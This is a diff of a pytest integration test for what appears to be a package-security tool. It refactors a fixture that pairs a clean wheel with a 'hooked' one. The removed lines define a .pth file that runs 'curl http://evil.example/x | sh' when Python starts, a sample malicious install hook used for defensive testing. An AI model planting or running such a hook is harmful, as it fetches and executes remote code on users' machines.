@@ -17,28 +17,17 @@ from typing import Any
 import pytest
 
 from tests.helpers import DistFactory, PackageIndex
-from tests.helpers.dists import DistSpec
+from tests.helpers.agents import clean_and_hooked
 from tests.helpers.policies import without_provenance_requirement
 
 pytestmark = pytest.mark.integration
 
 mcp = pytest.importorskip("mcp", reason="the mcp SDK is not installed (it is in the test extra)")
 
-HOOKED = DistSpec(
-    "hookpkg",
-    "1.0",
-    files={
-        "hookpkg/__init__.py": "",
-        "hookpkg_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n",
-    },
-)
-
 
 @pytest.fixture
 def index(dist_factory: DistFactory, package_index: PackageIndex) -> PackageIndex:
-    package_index.add(dist_factory.wheel("cleanpkg", "1.0"))
-    package_index.add(dist_factory.wheel(HOOKED))
-    return package_index
+    return clean_and_hooked(dist_factory, package_index)
 
 
 def _files(root: Path) -> dict[str, int]:
